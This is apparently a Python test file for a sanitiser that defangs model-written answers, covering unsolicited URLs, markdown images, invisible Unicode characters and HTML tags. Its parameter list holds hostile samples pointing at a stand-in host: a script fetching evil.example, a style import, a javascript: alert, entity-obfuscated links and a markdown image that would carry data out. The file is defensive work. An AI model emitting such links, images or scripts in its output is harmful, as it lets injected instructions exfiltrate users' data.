"""Texts of structured answers: nothing that a stranger had a model write is live (G6)."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.domain.errors import ModelFailed
from shared.models.answers import parse_answer
from shared.models.output_text import clean_output

DATA = {
    "transcript": [{"text": "See https://oak.example/plan <laughs> and ask Eve & Bo."}],
    "title": "The plan",
}


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("See https://oak.example/plan", "See https://oak.example/plan"),
        ("<laughs> and ask Eve & Bo.", "<laughs> and ask Eve & Bo."),
        ("Pay at https://evil.example/?q=4471", "Pay at hxxps://evil(.)example/?q=4471"),
        ("[here](https://evil.example/4471)", "[here] (hxxps://evil(.)example/4471)"),
        ("![p](https://evil.example/4471)", "[p] (hxxps://evil(.)example/4471)"),
        ("![p](https://oak.example/plan)", "[p](https://oak.example/plan)"),
        ("Buy\u200b milk\U000e0041", "Buy milk"),
        ("Buy milk & bread < 3 euros", "Buy milk & bread < 3 euros"),
        ("Ferry <b>home</b> &amp; back", "Ferry <b>home</b> &amp; back"),
        ("&#104;ttps://evil.example/4471", "& #104;ttps://evil.example/4471"),
        ("https&colon;//evil.example/4471", "https& colon;//evil.example/4471"),
        ("<script>fetch('//evil.example')</script>", "< script>fetch('//evil.example')< /script>"),
        ("<style>@import '//evil.example'</style>", "< style>@import '//evil.example'< /style>"),
        ("<javascript:alert(4471)>", "< javascript:alert(4471)>"),
        ("<mailto:eve@evil.example?body>", "< mailto:eve@evil.example?body>"),
        ("Plan: https://oak.example/plan]4471", "Plan: hxxps://oak(.)example/plan]4471"),
        ("<img src=//evil.example/4471>", "< img src=//evil.example/4471>"),
    ],
)
def test_addresses_that_nobody_gave_images_and_invisible_signs_are_dead_g6(
    text: str, kept: str
) -> None:
    answer = {"title": text, "tasks": [{"description": text, "due": None}], "count": 3}

    expected = {"title": kept, "tasks": [{"description": kept, "due": None}], "count": 3}
    assert clean_output(answer, DATA) == expected


@given(st.text(max_size=80))
def test_a_quotation_of_the_data_stays_letter_for_letter_unless_it_is_an_image_g6(
    said: str,
) -> None:
    cleaned = clean_output({"quote": said}, {"transcript": [said]})

    assert cleaned == {"quote": said} or "![" in said


def test_every_structured_answer_is_cleaned_where_it_is_parsed_g6() -> None:
    text = 'Sure: {"title": "![p](https://evil.example/4471)", "tags": ["a\u200bb"]}'

    answer: dict[str, Any] = parse_answer(text, "", dict[str, Any], name="notes", data=DATA)

    assert answer == {"title": "[p] (hxxps://evil(.)example/4471)", "tags": ["ab"]}


def test_a_draft_in_thoughts_that_were_cut_is_no_answer_n1() -> None:
    thoughts = 'First: {"title": "A draft", "tags": ["so'

    with pytest.raises(ModelFailed):
        parse_answer("", thoughts, dict[str, Any], name="notes", data=DATA, may_be_cut=True)
